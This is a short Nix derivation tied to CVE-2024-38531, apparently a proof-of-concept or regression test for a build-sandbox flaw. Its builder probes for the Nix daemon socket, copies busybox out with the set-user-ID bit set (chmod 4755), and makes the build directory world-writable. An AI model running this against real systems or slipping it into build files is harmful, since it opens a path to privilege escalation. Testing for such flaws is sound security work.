# CVE-2024-38531 (GHSA-q82p-44mg-mgh5): what a build leaves in its directory with the set-user-ID bit, for others to run; and, seen from
# within, the ways to the daemon that trusts whoever comes by its socket.
let
  content = "done\n";
in
derivation {
  name = "outside";
  system = builtins.currentSystem;
  builder = "/bin/sh";
  busybox = builtins.path {
    path = /usr/bin/busybox;
    name = "busybox";
  };
  outputHashMode = "flat";
  outputHashAlgo = "sha256";
  outputHash = builtins.hashString "sha256" content;
  args = [
    "-c"
    ''
      run() { (exec -a busybox $busybox "$@"); }
      for socket in /nix/var/nix/daemon-socket/socket /run/nix-daemon.socket /proc/1/root/run/nix-daemon.socket; do
        [ ! -e $socket ] || echo "reaches $socket"
      done
      run cp $busybox ./busybox
      run chmod 4755 ./busybox && echo "has set the bit"
      run chmod 777 . /build
      run touch ./ready
      for try in 1 2 3 4 5 6 7 8 9 10; do run sleep 1; [ ! -e ./seen ] || break; done
      [ ! -e ./seen ] || echo "was reached from outside"
      echo done >$out
    ''
  ];
}
